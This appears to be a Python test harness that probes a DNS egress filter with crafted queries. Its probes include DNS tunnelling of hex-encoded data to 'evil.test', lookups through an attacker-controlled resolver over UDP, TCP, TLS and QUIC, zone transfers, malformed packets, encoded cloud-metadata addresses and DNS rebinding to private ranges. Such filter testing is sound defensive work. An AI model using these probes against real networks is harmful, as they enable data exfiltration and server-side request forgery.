# Questions to resolvers. What is asked is made by hand, so that no library puts it right.
QUESTIONS = {"A": 1, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "AXFR": 252, "ANY": 255}


def question(name, kind="A", count=1, group=1, flags=0x0100):
    labels = b"".join(bytes([len(label)]) + label for label in (name if isinstance(name, bytes) else name.encode("latin-1")).split(b".") if label)
    return struct.pack(">HHHHHH", 0x1234, flags, count, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", QUESTIONS[kind], group)


def answer_of(data):
    """The code, and what was answered."""
    code, count = data[3] & 15, struct.unpack(">H", data[6:8])[0]
    return f"code {code}, {count} answers"


def ask(query, resolver=GATE):
    query = query if isinstance(query, bytes) else question(query)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE)
        client.connect((resolver, 53))
        client.send(query)
        return answer_of(client.recv(4096))


def ask_by_tcp(query, resolver=GATE):
    with connect(resolver, 53) as client:
        client.sendall(length16(query))
        data = read_all(client, 1)
        return answer_of(data[2:]) if data else "closed"


@attack
def the_attackers_name():
    return ask("question.evil.test")


@attack
def the_attackers_name_in_mixed_case():
    return ask("MiXeD.eViL.TeSt")


@attack
def the_attackers_name_at_his_own_resolver():
    return ask("own-resolver.evil.test", EVIL)


@attack
def the_attackers_name_at_his_own_resolver_by_tcp():
    return ask_by_tcp(question("own-resolver-tcp.evil.test"), EVIL)


@attack
def the_attackers_name_at_a_public_resolver():
    return ask("public-resolver.evil.test", "8.8.8.8")


@attack
def a_resolver_over_tls():
    return tls(EVIL, hello(None), 853)


@attack
def a_resolver_over_https():
    return tls(EVIL, hello("dns.evil.test"))


@attack
def a_resolver_over_quic():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.connect((EVIL, 853))
        client.send(b"\xc0" + bytes(1199))
        return repr(client.recv(100))


@attack
def a_name_that_carries_data():
    return ask("4a6f686e2c2068657265206973207468652064617461.tunnel.evil.test")


@attack
def many_names_that_carry_data_below_a_wildcard():
    data = "".join(f"{n:02x}" for n in range(30))
    return "refused" if "code 5, 0 answers" in [ask(f"{n}{data}.{data}.{data}.wild.test") for n in range(80)] else "carried"


@attack
def text_records_of_an_allowed_name():
    return ask(question("text.wild.test", "TXT"))


@attack
def null_records_of_an_allowed_name():
    return ask(question("null.wild.test", "NULL"))


@attack
def mail_servers_of_an_allowed_name():
    return ask(question("mail.wild.test", "MX"))


@attack
def services_of_an_allowed_name():
    return ask(question("_x._tcp.wild.test", "SRV"))


@attack
def keys_for_an_encrypted_hello():
    return ask(question("https.wild.test", "HTTPS"))


@attack
def addresses_of_ipv6():
    return ask(question("six.wild.test", "AAAA"))


@attack
def every_record_of_an_allowed_name():
    return ask(question("any.wild.test", "ANY"))


@attack
def a_whole_zone():
    return ask_by_tcp(question("wild.test", "AXFR"))


@attack
def text_records_of_the_attackers_name():
    return ask(question("text.evil.test", "TXT"))


@attack
def the_name_of_an_address():
    return ask(question("66.113.0.203.in-addr.arpa", "PTR"))


@attack
def another_class():
    return ask(question("version.bind", "TXT", group=3))


@attack
def two_questions_in_one():
    return ask(question("allowed.test", count=2))


@attack
def an_update_of_a_zone():
    return ask(question("allowed.test", flags=0x2800))


@attack
def a_name_that_points_at_itself():
    loop = bytearray(question("allowed.test"))
    loop[12:14] = b"\xc0\x0c"
    return ask(bytes(loop))


@attack
def a_nul_within_a_name():
    return ask(question(b"allowed\0.test"))


@attack
def a_name_longer_than_names_are():
    return ask(".".join(["a" * 60] * 5) + ".wild.test")


@attack
def a_decimal_address_as_a_name():
    return ask("2852039166")


@attack
def an_octal_address_as_a_name():
    return ask("0251.0376.0251.0376")


@attack
def a_hexadecimal_address_as_a_name():
    return ask("0xa9.0xfe.0xa9.0xfe")


@attack
def a_dotted_address_as_a_name():
    return ask("169.254.169.254")


@attack
def the_hosts_own_name():
    return ask("localhost")


@attack
def the_name_of_the_metadata_service():
    return ask("metadata.google.internal")


@attack
def a_name_that_moves_to_a_private_address():
    name = f"flip-{os.getpid()}-{time.time_ns()}.wild.test"
    address = lookup(name)
    time.sleep(2.5)
    return tcp(address, 5432)


@attack
def an_alias_of_a_private_name():
    return ask("alias.wild.test")


def rebinding(name):
    attacks[f"rebinding to {name}"] = lambda: ask(f"{name}.test")


for name in ["private", "class-b", "class-c", "loopback", "metadata", "host", "gate", "neighbour", "synthetic", "zero", "broadcast", "multicast",
             "benchmark", "mapped", "nat64", "sixtofour", "unique-local", "link-local", "loopback6"]:
    rebinding(name)
